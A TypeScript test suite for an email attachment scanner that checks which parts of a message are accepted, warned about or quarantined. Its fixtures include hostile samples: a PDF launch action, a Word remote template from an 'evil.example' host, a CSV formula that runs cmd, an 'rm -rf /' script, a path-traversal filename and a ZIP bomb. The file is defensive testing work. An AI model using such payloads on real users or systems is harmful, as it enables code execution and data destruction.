import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { readPost } from './reading.ts'
import { docx, mail, pdf, zip } from './testing.ts'

/** Each part's name with its verdict and reasons, in one line. */
async function looked(bytes: Uint8Array, name = 'message.eml'): Promise<string[]> {
  const reading = await readPost(bytes, name)
  if ('fault' in reading) return [`fault ${reading.fault}`]
  return reading.parts.map(part => [part.name, part.verdict, ...part.reasons].join(' '))
}

const asFile = async (bytes: Uint8Array | string, name: string): Promise<string> =>
  (await looked(Buffer.from(bytes), name)).join()

describe('a message is taken apart', () => {
  test('into its own words with who wrote them, and its files as they are', async () => {
    const request = pdf('Request for assistance')
    const reading = await readPost(
      mail([{ name: 'request.pdf', type: 'application/pdf', bytes: request }]),
      'm.eml',
    )
    assert.ok(!('fault' in reading))
    assert.equal(reading.told?.sender, 'assistance@justice.doria.example')
    assert.equal(reading.told?.senderName, 'Division of Judicial Assistance')
    assert.equal(reading.told?.dated, '2026-11-02T08:12:00.000Z')
    assert.equal(reading.excerpt, 'Please find our request.')
    const [words, file] = reading.parts
    assert.match(
      Buffer.from(words?.bytes ?? []).toString(),
      /From: Division .*\nTo: post@.*\n\nPlease find our request\.\n$/s,
    )
    assert.equal(Buffer.from(file?.bytes ?? []).toString(), request)
  })

  test('what is bad stands in quarantine, the rest of the message stays usable', async () => {
    const bytes = mail([
      { name: 'request.pdf', type: 'application/pdf', bytes: pdf('Request') },
      { name: 'scan.pdf', type: 'application/pdf', bytes: 'this was a scan once' },
      { name: 'empty.pdf', type: 'application/pdf', bytes: '' },
      {
        name: 'annex.docx',
        type: 'application/octet-stream',
        bytes: await docx('Annex', { 'word/vbaProject.bin': 'x' }),
      },
      { name: 'invoice.pdf.exe', type: 'application/pdf', bytes: 'MZ\u0090\0' },
    ])
    assert.deepEqual(await looked(bytes), [
      'message.txt accepted',
      'request.pdf accepted',
      'scan.pdf quarantined notWhatItSays',
      'empty.pdf quarantined empty',
      'annex.docx quarantined macros',
      'invoice.pdf.exe quarantined executable notWhatItSays',
    ])
  })

  test('a message forwarded inside it gives its files too', async () => {
    const inner = mail([{ name: 'request.pdf', type: 'application/pdf', bytes: pdf('Request') }])
    const outer = mail([{ name: 'forwarded.eml', type: 'message/rfc822', bytes: inner }])
    assert.ok((await looked(outer)).includes('request.pdf accepted'))
  })

  test('broken MIME gives what can be read of it, and nothing throws', async () => {
    const whole = mail([{ name: 'request.pdf', type: 'application/pdf', bytes: pdf('Request') }])
    for (const cut of [0, 1, 60, 300, 500, whole.length - 40]) await looked(whole.subarray(0, cut))
    const noEnd = Buffer.from(whole.toString().replace('--the-boundary--', ''))
    assert.ok((await looked(noEnd)).includes('request.pdf accepted'))
  })

  test('parts nested deeper than any mail program makes them are not followed', async () => {
    let body = 'Content-Type: text/plain\r\n\r\nx'
    for (let depth = 0; depth < 80; depth++)
      body = `Content-Type: multipart/mixed; boundary="b${depth}"\r\n\r\n--b${depth}\r\n${body}\r\n--b${depth}--`
    assert.deepEqual(await looked(Buffer.from(`From: a@b.example\r\nMIME-Version: 1.0\r\n${body}`)), [
      'fault tooDeep',
    ])
  })

  test('names cannot leave their folder or hide what they are', async () => {
    const [, file] = await looked(
      mail([{ name: '..\\\\..\\\\evil\u202Efdp.txt', type: 'text/plain', bytes: 'x' }]),
    )
    assert.doesNotMatch(file ?? '', /[/\\\u202E]/)
  })
})

describe('a file is what it contains', () => {
  const cases: [
    what: string,
    name: string,
    bytes: () => Promise<Uint8Array | string> | string,
    verdict: string,
  ][] = [
    ['a plain PDF', 'a.pdf', () => pdf('x'), 'accepted'],
    ['a plain Word document', 'a.docx', () => docx('x'), 'accepted'],
    [
      'a PDF that starts a program',
      'a.pdf',
      () => pdf('x', '/OpenAction << /S /Launch /F (a.exe) >>'),
      'quarantined launches',
    ],
    [
      'the same with its name spelt in hexadecimal',
      'a.pdf',
      () => pdf('x', '/OpenAction << /S /L#61unch >>'),
      'quarantined launches',
    ],
    [
      'a PDF with a script',
      'a.pdf',
      () => pdf('x', '/OpenAction << /S /JavaScript /JS (app.alert) >>'),
      'warned pdfScript',
    ],
    [
      'a PDF with files inside',
      'a.pdf',
      () => pdf('x', '/Names << /EmbeddedFiles 9 0 R >>'),
      'warned pdfFiles',
    ],
    [
      'a Word document that loads a template',
      'a.docx',
      () =>
        docx('x', {
          'word/_rels/settings.xml.rels':
            '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        }),
      'quarantined remoteContent',
    ],
    [
      'a Word document with a link to click',
      'a.docx',
      () =>
        docx('x', {
          'word/_rels/document.xml.rels':
            '<Relationships><Relationship Id="a" Type="x/relationships/hyperlink" Target="http://un.example" TargetMode="External"/></Relationships>',
        }),
      'accepted',
    ],
    ['an archive', 'a.zip', () => zip({ 'letter.txt': 'x' }), 'warned archive'],
    [
      'an archive with a program',
      'a.zip',
      () => zip({ 'letter.txt.exe': 'x' }),
      'quarantined archive executable',
    ],
    [
      'an archive that is cut off',
      'a.zip',
      async () => (await zip({ 'letter.txt': 'x'.repeat(500) })).subarray(0, 90),
      'quarantined brokenArchive',
    ],
    ['a script with an interpreter', 'letter', () => '#!/bin/sh\nrm -rf /', 'quarantined executable'],
    [
      'a web page with a script',
      'letter.html',
      () => '<!doctype html><script>alert(1)</script>',
      'quarantined script',
    ],
    ['a web page without', 'letter.html', () => '<!doctype html><p>Dear colleagues', 'warned webPage'],
    [
      'a table with a command',
      'list.csv',
      () => `name,sum\n=cmd|' /C calc'!A0,1`,
      'quarantined remoteContent',
    ],
    [
      'rich text with an object',
      'a.rtf',
      () => '{\\rtf1 {\\object\\objemb{\\*\\objdata 0105}}}',
      'quarantined embeddedObjects',
    ],
    ['bytes nobody knows', 'a.bin', () => '\u0000\u0001\u0002\u0003', 'quarantined unknownKind'],
  ]
  for (const [what, name, bytes, verdict] of cases)
    test(`${what}: ${verdict}`, async () =>
      assert.equal(await asFile(await bytes(), name), `${name} ${verdict}`))

  test('a ZIP bomb is counted while it unpacks and stopped', async () => {
    const bomb = await zip(
      Object.fromEntries(Array.from({ length: 4 }, (_, n) => [`${n}.txt`, Buffer.alloc(90 * 2 ** 20)])),
    )
    assert.ok(bomb.length < 2 ** 20)
    assert.equal(await asFile(bomb, 'a.zip'), 'a.zip quarantined unpacksTooMuch')
  })
})
